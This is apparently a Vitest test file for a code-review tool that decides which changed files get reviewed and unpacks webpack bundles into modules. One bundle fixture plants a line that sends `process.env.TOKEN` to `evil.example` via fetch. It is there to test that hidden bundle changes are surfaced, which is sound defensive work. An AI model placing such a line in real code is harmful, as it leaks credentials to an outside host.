import { describe, expect, it } from 'vitest';
import { readGivenDiff } from '../../../src/changes/diff/read-diff.ts';
import type { Changes } from '../../../src/changes/types.ts';
import { chooseScope, type ScopeSettings } from '../../../src/jobs/choose/choose-scope.ts';
import { memoryWorkspace } from '../../../src/workspace/memory.ts';

const SETTINGS: ScopeSettings = {
  paths: [],
  ignore: [],
  contentExclusion: undefined,
  maxFileLines: 100,
  bundles: false,
};

/** A diff that adds files, each with these lines. */
function added(files: Readonly<Record<string, string>>): Changes {
  const sections = Object.entries(files).map(([path, text]) => {
    const lines = text.replace(/\n$/, '').split('\n');
    const hunk = lines.map((line) => `+${line}\n`).join('');
    return `diff --git a/${path} b/${path}\nnew file mode 100644\nindex 0..1\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,${lines.length} @@\n${hunk}`;
  });
  return readGivenDiff(sections.join(''));
}

interface Scene {
  readonly head: Readonly<Record<string, string>>;
  readonly trusted?: Parameters<typeof memoryWorkspace>[0];
  readonly settings?: Partial<ScopeSettings>;
  readonly changes?: Changes;
  readonly repository?: string;
}

async function choose({ head, trusted = {}, settings = {}, changes = added(head), repository }: Scene) {
  const base = memoryWorkspace(trusted);
  return chooseScope(
    {
      changes,
      trusted: base,
      repository,
      readHead: async (path) => head[path],
      readVersion: async (side, { path }) => {
        const text = (side === 'head' ? head : trusted)[path];
        return typeof text === 'string' ? text : undefined;
      },
    },
    { ...SETTINGS, ...settings },
  );
}

async function verdictOf(scene: Scene): Promise<string> {
  const { reviewed, leftOut } = await choose(scene);
  return [...reviewed.map(() => 'reviewed'), ...leftOut.map(({ kind, reason }) => `${kind}: ${reason}`)].join('; ');
}

const CODE = 'export const a = 1;\n';

describe('a file is reviewed, or left out with its reason', () => {
  it.each<[string, Scene, string]>([
    ['code', { head: { 'src/a.ts': CODE } }, 'reviewed'],
    ['JSON', { head: { 'tsconfig.json': '{"a": 1}\n' } }, 'reviewed'],
    ['YAML', { head: { '.github/workflows/ci.yml': 'on: push\n' } }, 'reviewed'],
    ['TOML', { head: { 'pyproject.toml': '[tool]\n' } }, 'reviewed'],
    ['a long line of JSON', { head: { 'data.json': `${JSON.stringify(Array.from({ length: 999 }))}\n` } }, 'reviewed'],
    [
      'outside of `paths`',
      { head: { 'a.ts': CODE }, settings: { paths: ['src/**'] } },
      'not-in-paths: not among `paths`',
    ],
    ['ignored', { head: { 'a.ts': CODE }, settings: { ignore: ['*.ts'] } }, 'ignored: ignored by `*.ts`'],
    ['a lock file', { head: { 'x/yarn.lock': 'a\n' } }, 'lock-file: a lock file'],
    [
      'a lock file written by hand',
      { head: { 'x/yarn.lock': 'a\n' }, trusted: { '.gitattributes': 'yarn.lock -linguist-generated\n' } },
      'reviewed',
    ],
    [
      'marked generated',
      { head: { 'src/gen/a.ts': CODE }, trusted: { 'src/.gitattributes': '\ngen/** linguist-generated\n' } },
      'generated: marked `linguist-generated` (src/.gitattributes:2)',
    ],
    [
      'marked vendored',
      { head: { 'lib/a.ts': CODE }, trusted: { '.gitattributes': 'lib/** linguist-vendored=true\n' } },
      'vendored: marked `linguist-vendored` (.gitattributes:1)',
    ],
    [
      'marked not to be shown',
      { head: { 'a.ts': CODE }, trusted: { '.gitattributes': '*.ts -diff\n' } },
      'binary: marked `-diff` or `binary` (.gitattributes:1)',
    ],
    [
      'marked binary',
      { head: { 'a.ts': CODE }, trusted: { '.gitattributes': '*.ts binary\n' } },
      'binary: marked `-diff` or `binary` (.gitattributes:1)',
    ],
    [
      'marked by the change itself',
      { head: { '.gitattributes': '* linguist-generated\n', 'a.ts': CODE } },
      'reviewed; reviewed',
    ],
    [
      'in `node_modules/`',
      { head: { 'node_modules/x/a.js': CODE } },
      'vendored: vendored by its name: in `node_modules/`',
    ],
    [
      'in `vendor/`, which is the own here',
      { head: { 'vendor/x/a.js': CODE }, trusted: { '.gitattributes': 'vendor/** -linguist-vendored\n' } },
      'reviewed',
    ],
    [
      'too large',
      { head: { 'a.ts': CODE.repeat(101) } },
      'too-large: 101 changed lines, more than `max-file-lines` (100)',
    ],
    ['as large as allowed', { head: { 'a.ts': CODE.repeat(100) } }, 'reviewed'],
    [
      'in a `.copilotignore`',
      { head: { 'secret/a.ts': CODE }, trusted: { '.copilotignore': 'secret/\n' } },
      'excluded: excluded by `secret/` (.copilotignore:1)',
    ],
    [
      'in the content exclusion of the repository',
      { head: { 'a.cfg': 'x\n' }, trusted: { '.github/content-exclusion.yml': '- "*.cfg"\n' } },
      'excluded: excluded by `*.cfg` (.github/content-exclusion.yml:1)',
    ],
    [
      'in that of the organisation, for this repository',
      {
        head: { 'a.cfg': 'x\n' },
        trusted: { 'ex.yml': 'octo/other:\n  - "**"\nhttps://github.com/octo/app.git:\n  - "*.cfg"\n' },
        settings: { contentExclusion: 'ex.yml' },
        repository: 'github.com/octo/app',
      },
      'excluded: excluded by `*.cfg` (ex.yml:4)',
    ],
    [
      'in that of the organisation, for another',
      {
        head: { 'a.cfg': 'x\n' },
        trusted: { 'ex.yml': 'octo/other:\n  - "**"\n' },
        settings: { contentExclusion: 'ex.yml' },
        repository: 'github.com/octo/app',
      },
      'reviewed',
    ],
    [
      'excluded by its content',
      {
        head: { 'a.ts': '// TOP SECRET\n' },
        trusted: { '.github/content-exclusion.yml': '- ifAnyMatch: ["/top secret/i"]\n' },
      },
      'excluded: excluded because `/top secret/i` matches its content (.github/content-exclusion.yml:1)',
    ],
    [
      'excluded by the change itself',
      { head: { '.copilotignore': '*.ts\n', '.github/content-exclusion.yml': '- "**"\n', 'a.ts': CODE } },
      'reviewed; reviewed; reviewed',
    ],
    [
      'excluded although it is also ignored as generated',
      {
        head: { 'gen/a.ts': CODE },
        trusted: { '.copilotignore': 'gen\n', '.gitattributes': '* linguist-generated\n' },
      },
      'excluded: excluded by `gen` (.copilotignore:1)',
    ],
  ])('%s', async (_, scene, verdict) => {
    expect(await verdictOf(scene)).toBe(verdict);
  });

  it('deeper than any rule is followed', async () => {
    const path = `${'d/'.repeat(100)}a.ts`;
    expect(await verdictOf({ head: { [path]: CODE }, trusted: { '.copilotignore': 'x\n' } })).toBe(
      'excluded: excluded because its path has 100 folders or more, and rules are only checked to that depth',
    );
  });

  it('by the place that it was moved from, where that is excluded', async () => {
    const changes = readGivenDiff(
      'diff --git a/secret/a.ts b/open/a.ts\nsimilarity index 90%\nrename from secret/a.ts\nrename to open/a.ts\nindex 1..2\n--- a/secret/a.ts\n+++ b/open/a.ts\n@@ -1 +1 @@\n-a\n+b\n',
    );
    const scene = { head: {}, changes, trusted: { '.copilotignore': 'secret/\n' } };
    expect(await verdictOf(scene)).toBe('excluded: excluded by `secret/` (.copilotignore:1)');
  });

  it('by its name or form, where the diff has no text', async () => {
    const changes = readGivenDiff(
      [
        'diff --git a/gone.ts b/gone.ts\ndeleted file mode 100644\nindex 1..0\n--- a/gone.ts\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n',
        'diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n',
        'diff --git a/a.png b/a.png\nindex 1..2 100644\nBinary files a/a.png and b/a.png differ\n',
      ].join(''),
    );
    expect((await choose({ head: {}, changes })).leftOut.map(({ path, kind }) => [path, kind])).toEqual([
      ['gone.ts', 'removed'],
      ['run.sh', 'no-text'],
      ['a.png', 'binary'],
    ]);
  });

  it('below what was a file before', async () => {
    expect(await verdictOf({ head: { 'x/y/a.ts': CODE }, trusted: { x: 'a file\n' } })).toBe('reviewed');
  });
});

describe('a content exclusion that cannot be read stops everything', () => {
  it.each<[string, Scene, RegExp]>([
    [
      'that was named and is missing',
      { head: { 'a.ts': CODE }, settings: { contentExclusion: 'no.yml' } },
      /cannot be read: "no\.yml" does not exist/,
    ],
    [
      'that is no list',
      { head: { 'a.ts': CODE }, trusted: { '.github/content-exclusion.yml': 'octo/app: secret\n' } },
      /A list of globs is expected here/,
    ],
    ['that is no YAML', { head: { 'a.ts': CODE }, trusted: { '.github/content-exclusion.yml': '- "a\n' } }, /./],
    [
      'that is no file',
      { head: { 'x/a.ts': CODE }, trusted: { 'x/.copilotignore': { submodule: true } } },
      /cannot be read as a file: it is a submodule/,
    ],
  ])('one %s', async (_, scene, message) => {
    await expect(choose(scene)).rejects.toThrow(message);
    await expect(choose(scene)).rejects.toMatchObject({ exitCode: 2 });
  });
});

const BUNDLE = (modules: string): string =>
  `(() => {\nvar __webpack_modules__ = ({\n${modules}\n});\nfunction __webpack_require__(id) {\n  var m = { exports: {} };\n  __webpack_modules__[id](m, m.exports, __webpack_require__);\n  return m.exports;\n}\n__webpack_require__("./a.js");\n})();\n`;
const MODULE = (name: string, code: string): string => `"${name}": ((module) => {\n${code}\n})`;
const OLD = BUNDLE([MODULE('./a.js', 'module.exports = 1;'), MODULE('./b.js', 'module.exports = 2;')].join(',\n'));
const NEW = OLD.replace('module.exports = 2;', 'module.exports = 2; fetch("//evil.example/" + process.env.TOKEN);');
const BUNDLE_DIFF = readGivenDiff(
  'diff --git a/dist/i.js b/dist/i.js\nindex 1..2 100644\n--- a/dist/i.js\n+++ b/dist/i.js\n@@ -7 +7 @@\n-module.exports = 2;\n+module.exports = 2; fetch("//evil.example/" + process.env.TOKEN);\n',
);

describe('a changed bundle', () => {
  const scene: Scene = {
    head: { 'dist/i.js': NEW },
    trusted: { 'dist/i.js': OLD, '.gitattributes': 'dist/** linguist-generated\n' },
    changes: BUNDLE_DIFF,
  };

  it('is left out as generated, where nobody asks for its modules', async () => {
    expect(await verdictOf(scene)).toBe('generated: marked `linguist-generated` (.gitattributes:1)');
  });

  it('is read by its changed modules where `bundles` is on, with the numbers of its own lines', async () => {
    const { reviewed, leftOut } = await choose({ ...scene, settings: { bundles: true } });
    expect(leftOut).toEqual([]);
    const [file] = reviewed;
    expect(file?.view?.about).toBe('webpack bundle: 1 changed of 3 modules, rewritten for reading');
    expect(file?.view?.hunks.map((hunk) => hunk.heading)).toEqual(['modified module ./b.js']);
    const lines = file?.view?.hunks.flatMap((hunk) => hunk.lines) ?? [];
    expect(lines.filter((line) => line.kind === 'added')).toEqual([
      { kind: 'added', newLine: 7, text: expect.stringContaining('fetch("//evil.example/" + process.env.TOKEN)') },
    ]);
  });

  it('that is ignored stays so', async () => {
    expect(await verdictOf({ ...scene, settings: { bundles: true, ignore: ['dist/**'] } })).toBe(
      'ignored: ignored by `dist/**`',
    );
  });

  it('without a changed module is left out, and says so', async () => {
    const head = { 'dist/i.js': OLD.replaceAll('(module)', '( module )') };
    expect(await verdictOf({ ...scene, head, settings: { bundles: true } })).toMatch(
      /^generated: a bundle of 3 modules, none of which changed$/,
    );
  });

  it('that cannot be parsed is read line by line, and says so', async () => {
    const head = { 'dist/i.js': NEW.replace('=> {', '=> {{{') };
    const { reviewed, leftOut, notes } = await choose({ ...scene, head, settings: { bundles: true } });
    expect(leftOut).toEqual([]);
    expect(reviewed[0]?.view).toEqual({
      about: 'a bundle that could not be compared; its own lines',
      hunks: BUNDLE_DIFF.files[0]?.hunks,
    });
    expect(notes).toEqual([
      {
        path: 'dist/i.js',
        reason: expect.stringMatching(/^a bundle that could not be compared, so it is read line by line: .+/),
      },
    ]);
  });

  it('that would take too long to compare is read line by line', async () => {
    const head = { 'dist/i.js': `__webpack_require__${' '.repeat(40_000_000)}` };
    const { notes } = await choose({ ...scene, head, settings: { bundles: true } });
    expect(notes[0]?.reason).toContain('the bundles of this change have more than 40 million characters');
  });

  it('whose base is lost is read line by line', async () => {
    const { reviewed, notes } = await choose({ ...scene, trusted: {}, settings: { bundles: true } });
    expect([reviewed[0]?.view?.hunks.length, notes[0]?.reason]).toEqual([
      1,
      'a bundle that could not be compared, so it is read line by line: its version on the base cannot be read',
    ]);
  });
});
